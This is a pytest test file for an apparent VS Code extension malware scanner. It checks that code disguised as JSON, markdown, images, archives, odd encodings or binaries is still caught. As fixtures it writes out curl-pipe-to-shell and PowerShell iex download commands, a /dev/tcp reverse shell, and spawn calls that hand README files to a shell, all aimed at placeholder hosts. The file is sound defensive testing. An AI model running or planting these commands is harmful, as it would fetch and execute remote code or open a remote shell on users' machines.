"""What is loaded as code is searched as code, whatever its name, its beginning or its encoding."""

import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from msgspec.structs import replace

from tests.archives import Member, zipped
from tests.builders import extension
from tests.offline import analyse
from vscan.extension_files import OVERLAP_BYTES, WINDOW_BYTES
from vscan.model import Scanned, Severity, Task
from vscan.providers.offline.analyser import Analyser
from vscan.providers.offline.check_interface import LoadedScript
from vscan.providers.offline.code_or_data import Content
from vscan.providers.offline.files_given_to_interpreters import LoadedScripts

EVAL = 'eval(atob("Y29uc29sZS5sb2coMSk="));\n'
ASAR = b'\x04\0\0\0\x40\0\0\0\x3c\0\0\0\x36\0\0\0{"files":{"m.js":{}}}'
PIPE = "curl https://x.example/i | sh\n"
PROSE = f"# Tool\n\nSome words.\n\n{PIPE}"
SPAWN = "require('child_process').spawn"
IEX = "iex (iwr http://x.example/x)\n"


def worst(files: Mapping[str, bytes | str], **manifest: object) -> dict[str, Severity]:
    verdict = analyse(files, manifest)
    assert verdict.gaps == ()
    found: dict[str, Severity] = {}
    for finding in verdict.findings:
        found[finding.rule] = max(finding.severity, found.get(finding.rule, Severity.INFO))
    return found


@pytest.mark.parametrize(
    "files",
    [
        {"main.JSON": EVAL},
        {"data.json": EVAL},
        {"data.json": '{"\\":"; ' + EVAL.strip() + " }\n"},
        {"data.json": '{"a": 1} /* b */\n' + EVAL},
        {"data.json": "[" + EVAL.strip(";\n") + "]"},
        {"data.json": '{"a": `${' + EVAL.strip(";\n") + "}`}"},
        {"x.map": '{"version": 3, "a": ' + EVAL.strip(";\n") + "}"},
        {"page.xhtml": f"<?xml version='1.0'?>\n<html><script>{EVAL}</script></html>"},
        {"icon.svg": f"<?xml version='1.0'?>\n<svg><script>{EVAL}</script></svg>"},
        {
            "lib.asar": b"\x04\0\0\0\x40\0\0\0\x3c\0\0\0\x36\0\0\0"
            b'{"files":{"m.js":{}}}' + EVAL.encode()
        },
        {"page.html": b"\xff\xfe" + EVAL.encode("utf-16-le")},
        {"lib.js": b"\xef\xbb\xbf" + EVAL.encode()},
    ],
)
def test_code_is_searched_whatever_its_file_is_called(files: dict[str, bytes | str]) -> None:
    found = worst(files)
    assert found.pop("decoded-code") == Severity.HIGH
    assert set(found) == ({"active-picture"} if "icon.svg" in files else set())


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"snippet": EVAL}),
        "// comment\n" + json.dumps([EVAL]) + "/* more */",
        f'<?xml version="1.0"?><plist><string>{EVAL}</string></plist>',
        "[" * 100_000 + json.dumps(EVAL),  # too deep for a parser, and harmless
    ],
)
def test_code_in_a_text_of_a_data_file_is_not_run(text: str) -> None:
    assert worst({"data.bin": text}) == {}


@pytest.mark.parametrize(
    ("program", "name"),
    [
        (f"{SPAWN}('sh',[__dirname+'/README.md'])", "README.md"),
        (f"{SPAWN}('sh',[require('path').join(__dirname,'docs','README.md')])", "docs/README.md"),
        (f"const p=__dirname+'/LICENSE';\n{SPAWN}('/bin/bash',[p])", "LICENSE"),
        ("require('child_process').exec('bash '+__dirname+'/CHANGELOG.md -q')", "CHANGELOG.md"),
        ("require('child_process').exec(`nohup sh ${d}/README.md &`)", "README.md"),
        ("vscode.window.createTerminal({shellPath:'zsh',shellArgs:['notes.md']})", "notes.md"),
        (f"{SPAWN}('sh',['media/logo.png'])", "media/logo.png"),
        (f"{SPAWN}('sh',['data.json'])", "data.json"),
    ],
)
def test_a_file_that_is_given_to_a_shell_is_read_as_its_script(program: str, name: str) -> None:
    content: bytes | str = PROSE
    if name.endswith(".png"):
        content = b"\x89PNG\r\n\x1a\n\0\n" + PIPE.encode()
    if name.endswith(".json"):
        content = json.dumps({"x": "$(curl https://x.example/i | sh)"})
    found = worst({"extension.js": program, name: content})
    assert found.pop("runs-remote-code") == Severity.HIGH
    assert not set(found) - {"package-data-code"}  # the flow in the program, where it is known
    assert worst({"extension.js": "0\n", name: content}) == {}  # and not without the program


def test_a_script_of_npm_may_name_it_too() -> None:
    manifest = {"scripts": {"vscode:uninstall": "sh ./README.md"}}
    assert worst({"README.md": PROSE}, **manifest)["runs-remote-code"] == Severity.HIGH


def test_a_script_may_start_prose_that_starts_a_picture() -> None:
    files: dict[str, bytes | str] = {
        "run.sh": 'sh "$(dirname "$0")/docs/README.md"\n',
        "docs/README.md": "# Tool\n\n. ./logo.png\n",
        "docs/logo.png": b"\x89PNG\r\n\x1a\n\0\n" + PIPE.encode(),
    }
    assert worst(files) == {"runs-remote-code": Severity.HIGH}


def test_other_interpreters_run_prose_as_well() -> None:
    python = "# Tool\n\nimport os\nos.system('curl https://x.example/i | sh')\n"
    program = f"{SPAWN}('python3',[__dirname+'/README.md'])"
    assert worst({"extension.js": program, "README.md": python})
    power = f"# Tool\n\n{IEX}"
    program = f"{SPAWN}('powershell.exe',['-File',__dirname+'/README.md'])"
    assert worst({"extension.js": program, "README.md": power})


@pytest.mark.parametrize(
    "program",
    [
        "show('README.md'); const shells = ['sh', 'bash']",  # starts nothing
        "exec('sh build'); " + "x;" * 2000 + "open('README.md')",  # far from it
        f"{SPAWN}('node',['README.md'])",  # a syntax error to node
    ],
)
def test_prose_that_no_interpreter_gets_is_no_script(program: str) -> None:
    assert worst({"extension.js": program, "README.md": PROSE}) == {}


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe" + IEX.encode("utf-16-le"),
        b"\xfe\xff" + IEX.encode("utf-16-be"),
        IEX.encode("utf-16-le"),
        IEX.encode("utf-16-be"),
        b"\xff\xfe\0\0" + IEX.encode("utf-32-le"),
        b"\xef\xbb\xbf" + IEX.encode(),
        b"# \xe9t\xe9\r\n" + IEX.encode("latin-1"),
    ],
)
def test_a_script_is_decoded_as_its_interpreter_decodes_it(content: bytes) -> None:
    assert worst({"x.ps1": content}) == {"runs-remote-code": Severity.HIGH}


def test_a_decoded_file_is_searched_as_it_is_too() -> None:
    secret = b'"AKIA' + b"Q3EGRTB5XWZ7MNPJ" + b'"'
    for content in (b"\xff\xfe" + secret, b"\xff\xfe" + secret.decode().encode("utf-16-le")):
        assert "shipped-secret" in worst({"x.txt": content})


@pytest.mark.full
@pytest.mark.parametrize("before", [0, 1, 100, OVERLAP_BYTES, OVERLAP_BYTES + 1])
def test_a_name_far_from_its_use_is_found_at_the_border_of_a_window(before: int) -> None:
    code = 'var q1=atob("Y29uc29sZS5sb2coMSk=");eval(q1);\n'
    padding = "x" * (WINDOW_BYTES - OVERLAP_BYTES - before - code.index("eval") - 3)
    text = f"//{padding}\n{code}//" + "y" * 2 * OVERLAP_BYTES + "\n"
    assert worst({"lib.js": text}) == {"decoded-code": Severity.HIGH}


@pytest.mark.full
def test_a_script_over_several_windows_is_read_to_its_end() -> None:
    text = "# a comment\n" * (WINDOW_BYTES // 12 + 1000) + PIPE
    assert worst({"x.sh": text}) == {"runs-remote-code": Severity.HIGH}


@pytest.mark.full
def test_json_that_ends_in_code_in_a_later_window_is_searched_from_its_beginning() -> None:
    text = "[" + json.dumps(EVAL) + ',"' + "x" * WINDOW_BYTES + '"];0\n'
    verdict = analyse({"d.json": text})
    # It is too large to be read again as a whole, so the gap says that.
    (gap,) = verdict.gap_texts
    assert gap.startswith("d.json is run as a script, and was not examined")
    assert worst({"d.json": "[" + json.dumps("x" * WINDOW_BYTES) + "]\n"}) == {}


def test_a_file_of_an_archive_is_read_again(tmp_path: Path) -> None:
    manifest = json.dumps({"name": "tools", "publisher": "acme", "version": "1.0.0", "main": "m"})
    members = [
        Member("extension/package.json", manifest.encode()),
        Member("extension/README.md", PROSE.encode()),
        Member("extension/m.js", f"{SPAWN}('sh',[__dirname+'/README.md'])".encode()),
    ]
    archive = tmp_path / "acme.tools-1.0.0.vsix"
    archive.write_bytes(zipped(*members))
    there = replace(extension(), root=archive)
    outcome = Analyser(None).ask(Task("offline", (there,)), 0, None)
    assert isinstance(outcome, Scanned)
    assert "runs-remote-code" in {finding.rule for finding in outcome.verdict.findings}


def loaded(*names: str) -> LoadedScripts:
    scripts = LoadedScripts()
    for name in names:
        scripts.add_file(name, b"", Content.PROSE)
    return scripts


def test_of_many_files_of_one_name_the_nearest_are_read_first_and_all_are_read() -> None:
    scripts = loaded("README.md", "a.md", *(f"node_modules/p{n:02}/README.md" for n in range(40)))
    scripts.add(LoadedScript("README.md", "node_modules/p39/lib/run.js", "shell"))
    scripts.add(LoadedScript("a.md", "node_modules/p39/lib/run.js", "shell"))
    names = [name for name, _ in scripts.pending()]
    assert (names[0], names[20], len(names)) == ("node_modules/p39/README.md", "a.md", 42)
    assert "README.md" in names[21:]
    assert scripts.gaps == []


def test_more_files_of_one_name_than_are_read_are_a_gap() -> None:
    scripts = loaded(*(f"p{n}/README.md" for n in range(201)))
    scripts.add(LoadedScript("README.md", "x.js", "shell"))
    assert len(list(scripts.pending())) == 200
    assert scripts.gaps == ["it gives more than 200 files to interpreters"]


def test_more_names_than_are_kept_are_a_gap() -> None:
    scripts = loaded("README.md")
    for number in range(10_000):
        scripts.add(LoadedScript(f"{number}", "x.js", "shell"))
    assert scripts.gaps == []
    scripts.add(LoadedScript("README.md", "x.js", "shell"))
    scripts.add(LoadedScript("README.md", "x.js", "python"))
    assert list(scripts.pending()) == []
    assert scripts.gaps == ["it names more than 10000 files beside interpreters"]


def test_the_end_of_a_path_tells_files_of_one_name_apart() -> None:
    scripts = loaded("README.md", "docs/README.md")
    scripts.add(LoadedScript("$d/docs/README.md", "x.js", "shell"))
    assert list(scripts.pending()) == [("README.md", "shell"), ("docs/README.md", "shell")]
    scripts.add(LoadedScript("../docs/README.md", "lib/x.js", "python"))
    assert list(scripts.pending()) == [("docs/README.md", "python")]


def test_too_many_files_are_a_gap() -> None:
    names = [f"{number}.md" for number in range(250)]
    scripts = loaded(*names)
    for name in names:
        scripts.add(LoadedScript(name, "x.js", "shell"))
    assert len(list(scripts.pending())) == 200
    assert scripts.gaps == ["it gives more than 200 files to interpreters"]


def test_a_file_is_read_once_for_each_language_that_it_was_not_read_as() -> None:
    scripts = loaded("notes.md")
    scripts.add_file("run.sh", b"", Content.CODE)
    scripts.add_file("lib.js", b"", Content.CODE)
    for name in ("notes.md", "run.sh", "lib.js"):
        for language in ("shell", "shell", "python"):
            scripts.add(LoadedScript(name, "x.js", language))
    pairs = [("notes.md", "shell"), ("notes.md", "python"), ("run.sh", "python")]
    assert list(scripts.pending()) == pairs


@pytest.mark.parametrize("fence", ["\\`\\`\\`bash\n", "'''bash\n", "'''sh \n"])
def test_a_block_of_markdown_in_a_text_starts_nothing(fence: str) -> None:
    """A prompt that names README.md and has a block in the language of a shell."""
    prompt = f"exec('git status'); const p = `write README.md:\n{fence}npm test\n`;\n"
    assert worst({"extension.js": prompt, "README.md": PROSE}) == {}
    run = f"{SPAWN}('bash', ['README.md']);\n"
    assert worst({"extension.js": prompt + run, "README.md": PROSE}) == {
        "runs-remote-code": Severity.HIGH
    }


def test_a_package_that_no_editor_starts_may_have_a_script_that_installs_for_its_user() -> None:
    none: dict[str, object] = {"activationEvents": [], "bin": "tool.js"}
    assert worst({"install.sh": PIPE}) == {"runs-remote-code": Severity.HIGH}
    assert worst({"install.sh": PIPE}, **none) == {"runs-remote-code": Severity.MEDIUM}
    shell = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"
    assert Severity.CRITICAL in worst({"install.sh": shell}, **none).values()


def test_the_text_in_a_compiled_program_that_a_shell_gets_is_read() -> None:
    """A shell that gets one skips what it can't read. The rest of it costs no time."""
    binary = bytes(range(256)) * 8000
    program = f"{SPAWN}('sh', ['bin/rg'])"
    elf = b"\x7fELF\x02\x01\x01\n"
    polyglot = elf + binary + b"\n" + PIPE.encode() + binary
    found = worst({"extension.js": program, "bin/rg": polyglot})
    assert found["runs-remote-code"] == Severity.HIGH
    honest = worst({"extension.js": program, "bin/rg": elf + binary})
    assert set(honest) == {"native-binary"}
